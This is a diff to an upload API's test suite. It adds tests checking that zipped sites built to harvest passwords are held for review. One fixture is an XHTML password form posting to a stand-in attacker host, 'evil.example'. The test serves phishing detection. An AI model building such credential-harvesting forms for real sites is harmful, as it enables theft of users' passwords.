@@ -212,6 +212,23 @@ describe('POST /api/v1/documents with a file', () => {
     ]);
   });
 
+  it.each([
+    [
+      'one page asks and another runs scripts',
+      { 'a.html': '<form action=b.html><input type=password></form>', 'b.html': '<script>send()</script>' },
+    ],
+    [
+      'the page that asks is XML',
+      {
+        'a.xhtml': '<form xmlns="http://www.w3.org/1999/xhtml" action="//evil.example"><input type="password"/></form>',
+      },
+    ],
+  ])('holds a site in which %s', async (_, files) => {
+    const bytes = makeZip({ 'index.html': '<a href=a.html>Sign in</a>', ...files });
+    const { body } = await caller.upload('POST', '/documents', { name: 'site.zip', bytes });
+    expect(body.review_status).toBe('held');
+  });
+
   it('answers at once for a Word file, which is converted meanwhile', async () => {
     const { status, body } = await caller.upload('POST', '/documents', { name: 'plan.docx', bytes: makeDocx('Hi') });
     expect(status).toBe(201);
